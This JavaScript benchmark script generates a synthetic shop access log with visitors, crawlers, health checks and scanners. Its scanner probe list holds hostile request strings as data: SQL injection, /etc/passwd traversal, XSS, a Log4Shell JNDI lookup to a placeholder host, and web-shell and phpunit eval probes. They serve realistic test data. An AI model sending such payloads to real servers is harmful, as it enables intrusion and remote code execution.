// Writes a seeded access log in the combined format: node bench/generate-access.mjs LINES FILE
// Visitors who load pages with their assets, crawlers, health checks, an API, dead links, and some scanners among them.
import { closeSync, openSync, writeSync } from 'node:fs';

const [lines = '1000000', file = 'access.log'] = process.argv.slice(2);
let seed = 7;
const random = () => {
  seed = (Math.imul(seed, 1_664_525) + 1_013_904_223) >>> 0;
  return seed / 2 ** 32;
};
const int = (most) => Math.floor(random() * most);
const pick = (list) => list[int(list.length)];
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const SITE = 'https://shop.example';
const addressOf = () => `${1 + int(223)}.${int(256)}.${int(256)}.${1 + int(254)}`;
const many = (count, make) => Array.from({ length: count }, make);

const visitors = many(20_000, addressOf);
const scanners = many(40, addressOf);
const crawlers = many(25, () => `66.249.${64 + int(16)}.${1 + int(254)}`);
const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.6422.165 Mobile Safari/537.36',
];
const CRAWLER = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
const WORDS = ['garden', 'lamp', 'chair', 'oak-table', 'summer', 'sale', 'blue', 'kitchen', 'rug', 'desk', 'outdoor', 'mirror'];
const ASSETS = many(120, (_, index) => (index % 3 === 0 ? `/static/js/chunk-${int(99_999)}.min.js`
  : index % 3 === 1 ? `/static/css/theme.${int(99_999)}.css?v=${int(40)}` : `/media/cache/${int(9_999)}/photo_${index}.webp`));
const PROBES = [
  '/.env', '/wp-login.php', '/phpmyadmin/index.php', '/.git/config', '/admin.php', '/backup.zip', '/cgi-bin/test.cgi',
  '/?id=1%27%20UNION%20SELECT%20NULL,NULL--%20-', '/index.php?page=../../../../etc/passwd', '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
  '/?x=${jndi:ldap://198.51.100.9/a}', '/shell.php?cmd=id', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/actuator/health',
];

const handle = openSync(file, 'w');
let time = Date.UTC(2026, 2, 2);
let buffer = '';
let written = 0;
const two = (value) => String(value).padStart(2, '0');
const stamp = { second: -1, text: '' };
const stampOf = () => {
  const second = Math.floor(time / 1_000);
  if (second !== stamp.second) {
    const at = new Date(time);
    stamp.second = second;
    stamp.text = `${two(at.getUTCDate())}/${MONTHS[at.getUTCMonth()]}/${at.getUTCFullYear()}:${at.toISOString().slice(11, 19)} +0000`;
  }
  return stamp.text;
};
const say = (from, request, answer, by) => {
  if (written >= Number(lines)) return;
  buffer += `${from} - - [${stampOf()}] "${request} HTTP/1.1" ${answer} "${by.referer ?? '-'}" "${by.agent}"\n`;
  written += 1;
  if (buffer.length > 1 << 20) {
    writeSync(handle, buffer);
    buffer = '';
  }
};
const pages = [
  () => '/', () => `/product/${int(4_000)}-${pick(WORDS)}-${pick(WORDS)}`, () => `/category/${pick(WORDS)}?page=${1 + int(30)}&sort=price_asc`,
  () => `/search?q=${pick(WORDS)}+${pick(WORDS)}&utm_source=newsletter&utm_campaign=spring_${int(9)}`,
  () => `/search?q=${encodeURIComponent(`${pick(WORDS)} & ${pick(WORDS)} für draußen`)}`,
  () => `/go?to=${encodeURIComponent(`${SITE}/product/${int(4_000)}?ref=mail&x=1`)}`,
  () => `/account/login?return_to=%2Forders%2F${int(90_000)}`,
];
const visit = () => {
  const [from, agent] = [pick(visitors), pick(BROWSERS)];
  const page = pick(pages)();
  const size = 8_000 + int(60_000);
  say(from, `GET ${page}`, random() < 0.97 ? `200 ${size}` : '404 1245', { agent, referer: random() < 0.6 ? `${SITE}/category/${pick(WORDS)}` : null });
  for (let left = 2 + int(9); left > 0; left -= 1) {
    const asset = pick(ASSETS);
    say(from, `GET ${asset}`, random() < 0.3 ? '304 0' : `200 ${1_000 + (asset.length * 977) % 90_000}`, { agent, referer: SITE + page });
  }
  if (random() < 0.3) say(from, `POST /api/v2/cart/items?session=${int(1e9).toString(36)}`, `201 ${120 + int(400)}`, { agent, referer: SITE + page });
};
const scan = () => {
  const from = pick(scanners);
  for (let left = 1 + int(12); left > 0; left -= 1) {
    say(from, `GET ${pick(PROBES)}`, random() < 0.1 ? '403 199' : '404 1245', { agent: random() < 0.2 ? 'Mozilla/5.0 zgrab/0.x' : pick(BROWSERS) });
  }
};

while (written < Number(lines)) {
  const what = random();
  if (what < 0.86) visit();
  else if (what < 0.95) say(pick(crawlers), `GET /product/${int(4_400)}-${pick(WORDS)}`, random() < 0.9 ? `200 ${9_000 + int(50_000)}` : '404 1245', { agent: CRAWLER });
  else if (what < 0.995) say('10.0.4.7', 'GET /healthz', '200 2', { agent: 'kube-probe/1.29' });
  else scan();
  time += int(700);
}
writeSync(handle, buffer);
closeSync(handle);
